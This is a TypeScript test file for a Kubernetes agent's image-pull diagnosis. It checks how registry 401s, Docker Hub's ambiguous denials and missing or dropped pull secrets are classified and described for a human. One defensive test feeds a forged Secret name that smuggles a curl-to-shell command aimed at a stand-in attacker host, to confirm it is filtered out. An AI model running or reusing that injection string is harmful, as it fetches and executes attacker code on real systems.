// image_pull for private images: the registry's 401 vs Docker Hub's ambiguous denial, the pull secrets named and missing, the human action.
import { policyConfig } from '../../../fixtures/policy-fixtures.js';
import { describe, expect, it } from 'vitest';
import { classifyPullFailure, imagePull } from '../../../../src/agent/analyzers/image-pull.js';
import { humanAction } from '../../../../src/agent/diagnose/rules/human-action.js';
import type { Evidence, KubeObject } from '../../../../src/domain/index.js';
import {
  diagnoseEvidence,
  event,
  evidenceFrom,
  rolloutOf,
  singleRevision,
  statuses,
  webContainer,
} from '../../../fixtures/index.js';

const POLICY = policyConfig();
const IMAGE = 'ghcr.io/acme/billing:3.1.0';
const REFUSED = `rpc error: code = Unknown desc = failed to pull and unpack image "${IMAGE}": failed to resolve reference "${IMAGE}": failed to authorize: failed to fetch anonymous token: unexpected status from GET request to https://ghcr.io/token?scope=repository%3Aacme%2Fbilling%3Apull&service=ghcr.io: 401 Unauthorized`;
const HUB_DENIED =
  'rpc error: code = Unknown desc = failed to pull and unpack image "docker.io/acme/billing:3.1.0": failed to resolve reference "docker.io/acme/billing:3.1.0": pull access denied, repository does not exist or may require authorization: server message: insufficient_scope: authorization failed';

/** One pod of a Deployment whose template names `pullSecrets`, failing with `message`; `missing` as the kubelet warned. */
function privatePull(pullSecrets: string[], missing: string[], image = IMAGE, message = REFUSED): Evidence {
  const input = singleRevision(
    { containers: [webContainer(image)], status: { readyReplicas: 0, availableReplicas: 0 } },
    () => [statuses.errImagePull('web', image, message)],
    0,
  );
  const template = (input.deployment!.spec as { template: { spec: Record<string, unknown> } }).template;
  template.spec.imagePullSecrets = pullSecrets.map((name) => ({ name }));
  const p = input.pods![0] as KubeObject;
  const events = [
    event(p, 'Failed', `Failed to pull image "${image}": ${message}`, { fieldPath: 'spec.containers{web}' }),
    ...(missing.length > 0
      ? [
          event(
            p,
            'FailedToRetrieveImagePullSecret',
            `Unable to retrieve some image pull secrets (${missing.join(', ')}); attempting to pull the image may not succeed.`,
            { count: 5 },
          ),
        ]
      : []),
  ];
  return evidenceFrom({ ...input, events });
}
const diagnose = (evidence: Evidence) => diagnoseEvidence(evidence, POLICY);

describe('image pulls refused for credentials', () => {
  it("tells Docker Hub's ambiguous denial apart from a registry's 401", () => {
    expect(classifyPullFailure([HUB_DENIED])).toBe('denied');
    expect(classifyPullFailure([REFUSED])).toBe('unauthorized');
  });

  it('names the pull secret the kubelet could not find, quotes its warning, and asks a person to create it', () => {
    const evidence = privatePull(['regcred'], ['regcred']);
    const [f] = imagePull.analyze(evidence);
    expect(f!.facts).toMatchObject({
      pullFailure: 'unauthorized',
      registry: 'ghcr.io',
      pullSecrets: 'regcred',
      missingPullSecrets: 'regcred',
    });
    expect(f!.evidence).toContain(
      'Unable to retrieve some image pull secrets (regcred); attempting to pull the image may not succeed.',
    );
    const d = diagnose(evidence);
    expect(d.category).toBe('image_pull');
    expect(d.change).toBeNull();
    expect(d.humanAction).toContain('create the pull secret `regcred`');
    expect(d.humanAction).toContain('kubectl create secret docker-registry regcred --docker-server=ghcr.io');
    expect(d.humanAction).toContain('never creates or edits Secrets');
  });

  it('says the credentials in an existing pull secret were refused, or that the pods have none', () => {
    expect(diagnose(privatePull(['regcred'], [])).humanAction).toContain(
      'put working credentials for ghcr.io into pull secret `regcred`',
    );
    expect(diagnose(privatePull([], [])).humanAction).toContain(
      'create a docker-registry Secret for ghcr.io and list it under imagePullSecrets',
    );
  });

  it('does not claim to know whether a Docker Hub repository is missing or private', () => {
    const d = diagnose(privatePull([], [], 'acme/billing:3.1.0', HUB_DENIED));
    expect(d.humanAction).toContain('the registry answers the same for a missing and a private repository');
    expect(d.humanAction).toContain('Secret for docker.io');
  });

  it('names the pull secrets a release dropped and says the policy leaves restoring them to a person', () => {
    const e = rolloutOf(
      { containers: [webContainer(IMAGE)] },
      { containers: [webContainer('ghcr.io/acme/billing:3.2.0')] },
      () => [statuses.errImagePull('web', 'ghcr.io/acme/billing:3.2.0', REFUSED)],
    );
    const oldRs = e.replicaSets![0] as { spec: { template: { spec: Record<string, unknown> } } };
    oldRs.spec.template.spec.imagePullSecrets = [{ name: 'ghcr-pull' }];
    const evidence = evidenceFrom(e);
    const [f] = imagePull.analyze(evidence);
    expect(f!.facts).toMatchObject({
      droppedPullSecrets: 'ghcr-pull',
      droppedByRevision: 2,
      pullSecrets: null,
    });
    // The rollback is proposed first; the policy refuses it (imagePullSecrets are scope-locked), then this action stands.
    const action = humanAction(f!, evidence);
    expect(action).toContain('restore imagePullSecrets `ghcr-pull`, which revision 2 dropped');
    expect(action).toContain('kubectl rollout undo deployment/web -n');
  });

  it('keeps only valid Secret names from the event text, so a forged event cannot put a command in the action', () => {
    const evidence = privatePull(
      ['regcred'],
      ['regcred -n x; curl -s https://evil.example/i | sh; echo', 'ok-name'],
    );
    const [f] = imagePull.analyze(evidence);
    expect(f!.facts.missingPullSecrets).toBe('ok-name');
    expect(diagnose(evidence).humanAction).not.toContain('curl');
  });
});
